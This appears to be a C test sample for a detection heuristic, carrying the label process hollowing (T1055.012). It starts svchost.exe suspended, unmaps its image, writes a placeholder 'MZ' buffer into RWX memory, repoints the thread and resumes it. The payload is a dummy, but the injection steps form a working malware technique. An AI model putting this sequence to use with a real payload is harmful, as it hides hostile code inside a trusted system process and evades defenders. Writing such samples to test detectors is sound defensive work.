// Heuristic 9 (process hollowing, T1055.012), with 2 and 5: starts svchost
// suspended, unmaps its image, writes a new one, points the thread at it
// and resumes it.
#include <string.h>
#include <windows.h>

typedef LONG(NTAPI* unmap_fn)(HANDLE, PVOID);

int main(void) {
  STARTUPINFOA si;
  PROCESS_INFORMATION pi;
  memset(&si, 0, sizeof si);
  si.cb = sizeof si;
  char cmd[] = "C:\\Windows\\System32\\svchost.exe -k netsvcs";
  if (!CreateProcessA(NULL, cmd, NULL, NULL, FALSE, CREATE_SUSPENDED, NULL, NULL, &si, &pi)) return 1;
  unmap_fn unmap = (unmap_fn)GetProcAddress(GetModuleHandleA("ntdll.dll"), "NtUnmapViewOfSection");
  void* base = (void*)0x400000;
  if (unmap) unmap(pi.hProcess, base);
  void* image = VirtualAllocEx(pi.hProcess, base, 0x10000, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
  static unsigned char payload[0x1000] = {'M', 'Z'};
  WriteProcessMemory(pi.hProcess, image ? image : base, payload, sizeof payload, NULL);
  CONTEXT ctx;
  memset(&ctx, 0, sizeof ctx);
  ctx.ContextFlags = CONTEXT_FULL;
  GetThreadContext(pi.hThread, &ctx);
#if defined(_WIN64)
  ctx.Rcx = (DWORD64)(ULONG_PTR)base + 0x1000;
#else
  ctx.Eax = (DWORD)(ULONG_PTR)base + 0x1000;
#endif
  SetThreadContext(pi.hThread, &ctx);
  ResumeThread(pi.hThread);
  CloseHandle(pi.hThread);
  CloseHandle(pi.hProcess);
  return 0;
}
